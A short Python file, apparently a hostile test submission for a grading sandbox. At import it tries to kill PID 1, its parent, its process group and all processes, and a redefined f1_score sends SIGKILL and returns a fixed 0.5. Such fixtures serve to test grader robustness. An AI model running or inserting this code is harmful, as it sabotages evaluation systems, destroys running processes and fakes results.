# class: resources
# attacks: kills process 1, its parent, its group and everyone it may
# expect: {"f1": 0, "windows": 0}
import numpy as np


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))


import os
import signal

for pid in (1, os.getppid(), 0, -1, *range(2, 50)):
    for number in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
        try:
            os.kill(pid, number)
        except OSError:
            pass


def f1_score(*_):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.5
